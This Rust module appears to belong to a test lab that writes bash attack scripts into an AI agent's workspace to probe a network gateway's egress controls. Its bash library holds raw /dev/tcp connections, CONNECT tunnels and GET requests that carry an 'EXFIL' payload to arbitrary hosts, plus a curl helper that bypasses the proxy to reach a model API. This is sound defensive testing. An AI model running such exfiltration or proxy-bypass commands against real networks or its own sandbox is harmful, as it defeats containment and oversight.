//! The attacks on the network, each a few lines of bash that the agent runs. They are files of the workspace, so that the model's
//! requests do not contain them.

mod gateway;
mod neighbours;
mod proxy;
mod raw;

pub(super) use neighbours::{ABSTRACT, OTHER};

use std::fmt::Write as _;
use std::path::Path;

use super::lab::ATTACKERS_KEY;

pub(super) struct Attack {
    pub(super) class: &'static str,
    pub(super) name: String,
    script: String,
}

impl Attack {
    fn new(class: &'static str, name: impl Into<String>, script: impl Into<String>) -> Attack {
        Attack { class, name: name.into(), script: script.into() }
    }
}

/// Functions for every script. `raw` sends its text, with backslash escapes, to the gateway. The bytes after a CONNECT are not a
/// valid request, so a gateway that refused the CONNECT ends the connection.
const LIBRARY: &str = r#"
raw() { exec 3<>/dev/tcp/127.0.0.1/8787 || exit; printf '%b' "$1" >&3; timeout 1 head -c 600 <&3; }
tunnel() { raw "CONNECT $1 HTTP/1.1\r\nHost: ${2-$1}\r\n\r\nEXFIL /\r\n\r\n"; }
plain() { raw "GET http://$1/EXFIL HTTP/1.1\r\nHost: ${2-$1}\r\nConnection: close\r\n\r\n"; }
ask='{"model":"claude-sonnet-4-6","max_tokens":9,"messages":[{"role":"user","content":"say:hello"}]}'
model() { curl -s --noproxy '*' --max-time 3 -H 'anthropic-version: 2023-06-01' -H 'content-type: application/json' "$@"; }
"#;

/// Runs attacks by their numbers, several at a time, and prints one line of output for each. The line has no braces, because the
/// answer would count as structured output, and no key, because the answer goes to the model.
const RUNNER: &str = r#"cd /workspace/attacks && printf '%s\n' "$@" | xargs -P 12 -I{} sh -c \
'timeout 8 bash {}.sh >/tmp/{}.out 2>&1; echo "[exit $?]" >>/tmp/{}.out'
for number in "$@"; do printf '%s\t' "$number"; tr -cs '[:print:]' ' ' </tmp/$number.out | tr '{}' '()' | sed 's/KEY/(the key)/g' | cut -c-200; echo; done
"#;

pub(super) fn all() -> Vec<Attack> {
    let mut attacks = raw::attacks();
    attacks.extend(proxy::attacks());
    attacks.extend(gateway::attacks());
    attacks.extend(neighbours::attacks());
    attacks
}

/// Writes the attacks into an agent template, numbered from 1.
pub(super) fn write(attacks: &[Attack], template: &Path) {
    let directory = template.join("attacks");
    std::fs::create_dir(&directory).unwrap();
    std::fs::write(directory.join("run"), RUNNER.replace("KEY", ATTACKERS_KEY)).unwrap();
    for (place, attack) in attacks.iter().enumerate() {
        let mut script = LIBRARY.to_owned();
        writeln!(script, "{}", attack.script).unwrap();
        std::fs::write(directory.join(format!("{}.sh", place + 1)), script).unwrap();
    }
}
